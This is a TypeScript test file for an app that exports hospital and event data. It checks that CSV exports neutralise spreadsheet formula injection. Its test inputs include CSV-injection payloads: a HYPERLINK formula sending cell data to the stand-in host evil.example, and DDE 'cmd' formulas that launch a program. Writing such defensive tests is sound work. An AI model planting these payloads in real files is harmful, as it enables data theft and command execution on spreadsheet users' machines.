/**
 * CSV exports are safe to open in a spreadsheet (issue 21: names such as `=HYPERLINK(…)` or
 * `+cmd|…` came back as live formulas). OWASP's CSV-injection rule: a text cell starting with
 * `=`, `+`, `-`, `@`, tab or CR gets a leading `'` and is quoted; numbers — negative ones too —
 * stay numbers.
 */
import { expect } from "expect";
import { unzipSync } from "fflate";
import { dbTest } from "./support/services.ts";
import { buildTestApp } from "./support/app.ts";
import { bearer, jsonInit, makeOrg } from "./support/accounts.ts";
import { csvLine, neutralise, toCsv } from "../lib/csv.ts";
import { parseCsv } from "../ml/dataset.ts";
import { planCsv } from "../lib/api_csv.ts";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "=1",
];

/** A cell a spreadsheet would evaluate: starts with a formula character and is not a number. */
const live = (cell: string) =>
  /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);

Deno.test("neutralise: formulas become text, numbers stay numbers", () => {
  for (const h of HOSTILE) {
    expect(neutralise(h)).toBe(`'${h}`);
    expect(live(neutralise(h))).toBe(false);
  }
  for (const n of ["-116.5", "-0", "+3", "-1e-3", "12", "Desert Regional", "", "'quoted"]) {
    expect(neutralise(n)).toBe(n);
  }
  // Numbers as numbers or as numeric strings (PostgreSQL numeric) are written as they are.
  expect(csvLine([-116.5, "-116.5", -3, "=1+1", "a,b"])).toBe(`-116.5,-116.5,-3,"'=1+1","a,b"\r\n`);
  // The writers of API answers share the same cell rule.
  const csv = toCsv(["name", "lon"] as const, [{ name: "@x", lon: -1.5 }]);
  expect(parseCsv(csv)).toEqual([{ name: "'@x", lon: "-1.5" }]);
});

dbTest("the export (zip and single CSV) and the plan CSV never carry a live formula", async (s) => {
  const app = await buildTestApp(s);
  const org = await makeOrg(s, "csv-injection");
  const admin = bearer(org.users.admin.token);
  const ids: string[] = [];
  for (const [i, name] of HOSTILE.entries()) {
    const id = `inj-${i}-${crypto.randomUUID().slice(0, 6)}`;
    ids.push(id);
    const h = await app.request(
      "/api/hospitals",
      jsonInit("POST", { id, name, lat: 33.8, lon: -116.5, edBeds: 20 }, admin),
    );
    expect([name, h.status]).toEqual([name, 201]);
    const start = new Date(Date.now() + (i + 2) * 86_400_000);
    start.setUTCMinutes(0, 0, 0);
    const e = await app.request(
      "/api/events",
      jsonInit("POST", {
        id: `ev-${id}`,
        name,
        type: "concert",
        lat: 33.8,
        lon: -116.5,
        startsAt: start.toISOString(),
        endsAt: new Date(start.getTime() + 3_600_000).toISOString(),
        expectedAttendance: 500,
      }, admin),
    );
    expect([name, e.status]).toEqual([name, 201]);
  }
  const zip = await app.request("/api/export?format=zip", { headers: admin });
  expect(zip.status).toBe(200);
  const files = unzipSync(new Uint8Array(await zip.arrayBuffer()));
  const texts: Record<string, string> = {};
  for (const [name, bytes] of Object.entries(files)) texts[name] = new TextDecoder().decode(bytes);
  const single = await app.request("/api/export?file=events.csv", { headers: admin });
  expect(single.status).toBe(200);
  texts["events.csv (single)"] = await single.text();

  for (const [file, text] of Object.entries(texts)) {
    const rows = parseCsv(text);
    const cells = rows.flatMap((r) => Object.entries(r));
    expect([file, cells.filter(([, v]) => live(v))]).toEqual([file, []]);
  }
  const hospitals = parseCsv(texts["hospitals.csv"]).filter((r) => ids.includes(r.id));
  expect(hospitals.map((h) => h.name).sort()).toEqual(HOSTILE.map((h) => `'${h.trim()}`).sort());
  // Negative coordinates are still numbers.
  expect(hospitals.every((h) => Number(h.lon) === -116.5)).toBe(true);
  const events = parseCsv(texts["events.csv (single)"]).filter((r) => r.id.startsWith("ev-inj-"));
  expect(events.length).toBe(HOSTILE.length);
  expect(events.every((e) => e.name.startsWith("'"))).toBe(true);

  // A plan's text (recommendations quote names) goes through the same writer.
  const plan = await planCsv({
    id: crypto.randomUUID(),
    hospitalId: ids[0],
    createdAt: new Date().toISOString(),
    recommendations: [{
      id: crypto.randomUUID(),
      priority: "high",
      agent: "staffing",
      title: HOSTILE[0],
      action: HOSTILE[1],
      rationale: "-1",
      ownerRole: "coordinator",
      dueAt: null,
      status: "open",
      note: HOSTILE[3],
    }],
  }).text();
  const [row] = parseCsv(plan);
  expect([row.title, row.action, row.rationale, row.note]).toEqual([
    `'${HOSTILE[0]}`,
    `'${HOSTILE[1]}`,
    "-1",
    `'${HOSTILE[3]}`,
  ]);
});
